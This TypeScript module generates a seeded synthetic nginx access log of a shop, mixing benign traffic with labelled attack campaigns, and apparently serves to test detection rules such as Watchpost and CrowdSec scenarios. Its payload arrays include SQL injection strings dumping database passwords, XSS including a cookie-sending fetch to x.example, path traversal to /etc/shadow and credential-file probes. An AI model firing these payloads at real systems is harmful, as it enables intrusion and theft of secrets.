import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/*
 * A deterministic nginx `combined` access log of a shop with an API: benign browsing from a few
 * thousand clients, and attack campaigns from known addresses, each a burst of one kind of attack.
 * The ground truth names every attacking address, its campaign, and the Watchpost rules and
 * CrowdSec scenarios its requests are meant to trigger. Addresses are only text; nothing is sent.
 */

export interface Attacker {
  address: string;
  campaign: string;
  requests: number;
  first: string;
  last: string;
  userAgent: string;
  /** Rules of the default pack this campaign is meant to trigger. */
  watchpostRules: string[];
  /** CrowdSec 1.4.6 scenarios this campaign is meant to trigger; the intent, not a promise. */
  crowdsecScenarios: string[];
}

export interface GroundTruth {
  seed: number;
  lines: number;
  attackLines: number;
  start: string;
  attackers: Attacker[];
}

/** A small, fast, seeded generator (xorshift32), so the same seed gives the same log. */
class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0 || 0x9e3779b9;
  }

  next(): number {
    let x = this.state;
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    this.state = x >>> 0;
    return this.state / 4294967296;
  }

  integer(low: number, high: number): number {
    return low + Math.floor(this.next() * (high - low + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)];
  }

  weighted<T>(items: readonly [T, number][]): T {
    let total = 0;
    for (const [, weight] of items) total += weight;
    let roll = this.next() * total;
    for (const [item, weight] of items) {
      roll -= weight;
      if (roll <= 0) return item;
    }
    return items[items.length - 1][0];
  }
}

const START = Date.UTC(2024, 2, 4, 6, 0, 0);
const SPAN_MS = 6 * 3600_000;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPad; CPU OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
];
const APP_AGENTS = ['ShopApp/4.1.0 (Android 14)', 'ShopApp/4.1.0 (iOS 17.3)', 'python-httpx/0.27.0', 'Go-http-client/2.0'];
const CRAWLERS = ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)'];
const SCANNER_AGENTS = ['sqlmap/1.8.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6', 'Fuzz Faster U Fool v2.1.0', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)'];
const ASSETS = ['/assets/app.4e1f.js', '/assets/vendor.a8c2.js', '/assets/site.90d1.css', '/img/logo.png', '/img/banner.webp', '/favicon.ico', '/fonts/roboto.woff2'];
const PAGES = ['/', '/catalog', '/catalog/shoes', '/catalog/bags', '/offers', '/cart', '/checkout', '/help', '/account', '/account/orders'];
const API = ['/api/v2/catalog/items', '/api/v2/cart', '/api/v2/orders', '/api/v2/me', '/api/v2/search', '/api/v2/stock'];
const SEARCHES = ['boots', 'red+scarf', 'travel+bag', 'linen+shirt', 'sandals', 'wallet', 'o%27neill+jacket', 'select+collection'];

const SQL_INJECTION = ["/catalog/item?id=12'", "/catalog/item?id=12%27%20or%20%271%27=%271", '/catalog/item?id=12%20union%20select%201,2,concat(user,0x3a,password)%20from%20mysql.user--', "/api/v2/search?q=x%27)%20AND%20SLEEP(5)--%20-", '/api/v2/orders?sort=id;select%20pg_sleep(10)--', "/account/login?user=admin%27%20or%201=1--", '/catalog/item?id=-7%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20information_schema.tables--', '/api/v2/stock?sku=1%20AND%20extractvalue(1,concat(0x7e,version()))'];
const XSS = ['/search?q=%3Cscript%3Ealert(42)%3C%2Fscript%3E', '/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E', '/help?topic=%3Csvg%20onload%3Dalert(document.domain)%3E', '/search?q=%3Cbody%20onload%3Dfetch(%27//x.example%2F%27%2Bdocument.cookie)%3E', "/offers?ref=javascript:alert('x')"];
const TRAVERSAL = ['/static/../../../../etc/passwd', '/download?file=../../../../etc/shadow', '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd', '/img/..%252f..%252f..%252fetc%252fhosts', '/view?page=....//....//....//etc/passwd', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', '/api/v2/files?path=/proc/self/environ', '/template?name=..\\..\\..\\windows\\win.ini'];
const SENSITIVE = ['/.env', '/.git/config', '/.git/HEAD', '/.aws/credentials', '/backup.sql', '/db_backup.tar.gz', '/wp-config.php.bak', '/.htpasswd', '/server-status', '/.ssh/id_rsa', '/config.yml', '/.DS_Store', '/phpinfo.php', '/.svn/wc.db', '/docker-compose.yml'];
const PROBE_WORDS = ['admin', 'administrator', 'wp-admin', 'wp-login.php', 'phpmyadmin', 'manager/html', 'console', 'actuator', 'actuator/health', 'jenkins', 'solr/admin', 'api/v1/swagger.json', 'swagger-ui', 'shell', 'cmd', 'upload', 'xmlrpc.php', 'old', 'test', 'dev', 'staging', 'backup', 'install', 'setup', 'config', 'owa/auth', 'remote/login', 'HNAP1', 'cgi-bin/luci', 'boaform/admin/formLogin', 'geoserver/web', 'vendor/phpunit', 'druid', 'telescope', 'debug', 'metrics', 'login.action', 'struts', 'jmx-console'];
const EXTENSIONS = ['', '.php', '.asp', '.aspx', '.jsp', '.bak', '.zip', '/', '.html', '.old'];
const LOGIN_PATHS = ['/login', '/api/v2/auth/login', '/wp-login.php'];

interface Request {
  method: string;
  target: string;
  status: number;
  bytes: number;
  referer: string;
}

function formatTime(ms: number): string {
  const date = new Date(ms);
  const two = (value: number) => String(value).padStart(2, '0');
  return `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())} +0000`;
}

function formatLine(address: string, ms: number, request: Request, agent: string): string {
  return `${address} - - [${formatTime(ms)}] "${request.method} ${request.target} HTTP/1.1" ${request.status} ${request.bytes} "${request.referer}" "${agent}"`;
}

class Addresses {
  private readonly used = new Set<string>();

  constructor(private readonly random: Random) {}

  /** Returns a public-looking IPv4 address outside private, loopback and documentation ranges. */
  v4(): string {
    for (;;) {
      const a = this.random.integer(11, 223);
      const b = this.random.integer(0, 255);
      if (a === 127 || a === 100 || (a === 169 && b === 254) || (a === 172 && b >= 16 && b < 32) || (a === 192 && (b === 168 || b === 0)) || (a === 198 && (b === 18 || b === 19 || b === 51)) || (a === 203 && b === 0)) continue;
      const address = `${a}.${b}.${this.random.integer(0, 255)}.${this.random.integer(1, 254)}`;
      if (!this.used.has(address)) {
        this.used.add(address);
        return address;
      }
    }
  }

  v6(): string {
    for (;;) {
      const address = `2a0${this.random.integer(1, 9)}:${this.random.integer(0x1000, 0xffff).toString(16)}:${this.random.integer(1, 0xffff).toString(16)}::${this.random.integer(1, 0xffff).toString(16)}`;
      if (!this.used.has(address)) {
        this.used.add(address);
        return address;
      }
    }
  }
}

function benignRequest(random: Random, kind: 'web' | 'app' | 'crawler'): Request {
  const referer = random.pick(['-', '-', 'https://shop.example.com/', 'https://www.search.example/', 'https://shop.example.com/catalog']);
  if (kind === 'app') {
    let target = random.pick(API);
    if (target.endsWith('items') || target.endsWith('orders')) target += `/${random.integer(1, 90_000)}`;
    if (target.endsWith('search')) target += `?q=${random.pick(SEARCHES)}`;
    const method = random.weighted<string>([['GET', 85], ['POST', 10], ['PUT', 3], ['DELETE', 2]]);
    return { method, target, status: random.weighted([[200, 93], [201, 3], [404, 2], [401, 1], [503, 1]]), bytes: random.integer(90, 12_000), referer: '-' };
  }
  if (kind !== 'crawler' && random.next() < 0.5) {
    return { method: 'GET', target: random.pick(ASSETS), status: random.weighted([[200, 75], [304, 24], [404, 1]]), bytes: random.integer(400, 300_000), referer };
  }
  let target = random.pick(PAGES);
  if (random.next() < 0.3) target = `/catalog/item/${random.integer(1, 40_000)}`;
  else if (random.next() < 0.1) target = `/search?q=${random.pick(SEARCHES)}`;
  const login = target === '/account' && random.next() < 0.2;
  if (login) return { method: 'POST', target: '/login', status: random.weighted([[302, 90], [401, 10]]), bytes: random.integer(200, 900), referer };
  return { method: 'GET', target, status: random.weighted([[200, 94], [301, 2], [304, 2], [404, 1.5], [500, 0.5]]), bytes: random.integer(1_000, 90_000), referer };
}

interface Campaign {
  name: string;
  attackers: number;
  requests: [number, number];
  /** Seconds the burst lasts. */
  seconds: [number, number];
  watchpostRules: string[];
  crowdsecScenarios: string[];
  request: (random: Random, index: number) => Request;
  agent?: (random: Random) => string;
}

const CAMPAIGNS: Campaign[] = [
  { name: 'sqli', attackers: 6, requests: [20, 60], seconds: [10, 60], watchpostRules: ['sqli'], crowdsecScenarios: ['crowdsecurity/http-sqli-probbing-detection'], request: (random, i) => ({ method: 'GET', target: `${random.pick(SQL_INJECTION)}&n=${i}`, status: random.pick([200, 500, 403]), bytes: random.integer(200, 8000), referer: '-' }) },
  { name: 'xss', attackers: 4, requests: [15, 35], seconds: [10, 40], watchpostRules: ['xss'], crowdsecScenarios: ['crowdsecurity/http-xss-probbing'], request: (random, i) => ({ method: 'GET', target: `${random.pick(XSS)}&n=${i}`, status: random.pick([200, 403]), bytes: random.integer(200, 8000), referer: '-' }) },
  { name: 'path_traversal', attackers: 6, requests: [15, 45], seconds: [10, 60], watchpostRules: ['path-traversal'], crowdsecScenarios: ['crowdsecurity/http-path-traversal-probing'], request: (random, i) => ({ method: 'GET', target: `${random.pick(TRAVERSAL)}${i % 2 === 0 ? '' : `${'?'}x=${i}`}`, status: random.pick([400, 403, 404, 200]), bytes: random.integer(150, 700), referer: '-' }) },
  { name: 'probe_404', attackers: 6, requests: [150, 700], seconds: [40, 200], watchpostRules: ['not-found-probing'], crowdsecScenarios: ['crowdsecurity/http-probing'], request: (random) => ({ method: random.next() < 0.9 ? 'GET' : 'HEAD', target: `/${random.pick(PROBE_WORDS)}${random.next() < 0.4 ? random.integer(0, 99) : ''}${random.pick(EXTENSIONS)}`, status: random.weighted([[404, 92], [403, 5], [301, 3]]), bytes: random.integer(150, 600), referer: '-' }), agent: (random) => random.pick(['curl/8.6.0', 'python-requests/2.31.0', ...BROWSERS]) },
  { name: 'sensitive_files', attackers: 4, requests: [20, 45], seconds: [10, 90], watchpostRules: ['sensitive-file'], crowdsecScenarios: ['crowdsecurity/http-sensitive-files'], request: (random, i) => ({ method: 'GET', target: SENSITIVE[i % SENSITIVE.length], status: random.weighted([[404, 85], [403, 15]]), bytes: random.integer(150, 600), referer: '-' }) },
  { name: 'scanner_agent', attackers: 6, requests: [6, 30], seconds: [30, 300], watchpostRules: ['scanner-user-agent'], crowdsecScenarios: ['crowdsecurity/http-bad-user-agent'], request: (random) => benignRequest(random, 'web'), agent: (random) => random.pick(SCANNER_AGENTS) },
  { name: 'crawl', attackers: 3, requests: [400, 1200], seconds: [60, 200], watchpostRules: ['aggressive-crawl'], crowdsecScenarios: ['crowdsecurity/http-crawl-non_statics'], request: (random) => ({ method: 'GET', target: `/catalog/item/${random.integer(1, 40_000)}${random.next() < 0.3 ? `?page=${random.integer(1, 40)}` : ''}`, status: random.weighted([[200, 96], [404, 4]]), bytes: random.integer(2_000, 70_000), referer: '-' }) },
  { name: 'login_bruteforce', attackers: 3, requests: [60, 220], seconds: [60, 300], watchpostRules: ['login-brute-force'], crowdsecScenarios: ['LePresidente/http-generic-401-bf', 'LePresidente/http-generic-403-bf', 'crowdsecurity/http-bf-wordpress_bf'], request: (random) => ({ method: 'POST', target: random.pick(LOGIN_PATHS), status: random.pick([401, 401, 403, 200]), bytes: random.integer(150, 600), referer: '-' }) },
  // A few probes spread over hours: single-request rules may flag them, windowed rules should not.
  { name: 'low_and_slow', attackers: 6, requests: [4, 8], seconds: [3 * 3600, 5 * 3600], watchpostRules: [], crowdsecScenarios: [], request: (random) => (random.next() < 0.5 ? { method: 'GET', target: random.pick(TRAVERSAL), status: 404, bytes: 210, referer: '-' } : { method: 'GET', target: random.pick(SQL_INJECTION), status: 200, bytes: 3100, referer: '-' }) },
];

/** Writes `lines` log lines to `logPath` and returns the ground truth. */
export async function generateLog(logPath: string, lines: number, seed = 20240304): Promise<GroundTruth> {
  const random = new Random(seed);
  const addresses = new Addresses(random);
  const events: [number, string][] = [];
  const attackers: Attacker[] = [];

  for (const campaign of CAMPAIGNS) {
    for (let k = 0; k < campaign.attackers; k++) {
      const address = k === 0 && campaign.name !== 'low_and_slow' ? addresses.v6() : addresses.v4();
      const requests = random.integer(...campaign.requests);
      const duration = random.integer(...campaign.seconds) * 1000;
      const begin = START + 600_000 + Math.floor(random.next() * (SPAN_MS - duration - 1_200_000));
      const agent = campaign.agent ? campaign.agent(random) : random.pick(BROWSERS);
      let first = Infinity;
      let last = 0;
      for (let i = 0; i < requests; i++) {
        const ms = begin + Math.floor((duration * i) / requests) + random.integer(0, 400);
        first = Math.min(first, ms);
        last = Math.max(last, ms);
        events.push([ms, formatLine(address, ms, campaign.request(random, i), agent)]);
      }
      attackers.push({ address, campaign: campaign.name, requests, first: new Date(first).toISOString(), last: new Date(last).toISOString(), userAgent: agent, watchpostRules: campaign.watchpostRules, crowdsecScenarios: campaign.crowdsecScenarios });
    }
  }

  const attackLines = events.length;
  if (attackLines >= lines) throw new Error(`${lines} lines cannot hold the ${attackLines} attack lines`);
  const clients = Array.from({ length: 6000 }, (_, i) => {
    const kind = random.weighted<'web' | 'app' | 'crawler'>([['web', 80], ['app', 16], ['crawler', 4]]);
    let agents = BROWSERS;
    if (kind === 'app') agents = APP_AGENTS;
    else if (kind === 'crawler') agents = CRAWLERS;
    const agent = random.pick(agents);
    // Activity follows a steep curve: a few clients make most requests, as behind a NAT.
    return { address: i % 50 === 0 ? addresses.v6() : addresses.v4(), kind, agent, weight: random.next() ** 4 + 0.01 };
  });
  const cumulative: number[] = [];
  let sum = 0;
  for (const client of clients) cumulative.push((sum += client.weight));
  for (let i = 0; i < lines - attackLines; i++) {
    const roll = random.next() * sum;
    let low = 0;
    let high = cumulative.length - 1;
    while (low < high) {
      const middle = (low + high) >> 1;
      if (cumulative[middle] < roll) low = middle + 1;
      else high = middle;
    }
    const client = clients[low];
    const ms = START + Math.floor((SPAN_MS * i) / (lines - attackLines)) + random.integer(0, 250);
    events.push([ms, formatLine(client.address, ms, benignRequest(random, client.kind), client.agent)]);
  }

  events.sort((a, b) => a[0] - b[0]);
  const out = createWriteStream(logPath);
  let buffer = '';
  for (const [, line] of events) {
    buffer += `${line}\n`;
    if (buffer.length > 1 << 20) {
      if (!out.write(buffer)) await once(out, 'drain');
      buffer = '';
    }
  }
  out.end(buffer);
  await once(out, 'finish');
  return { seed, lines, attackLines, start: new Date(START).toISOString(), attackers };
}
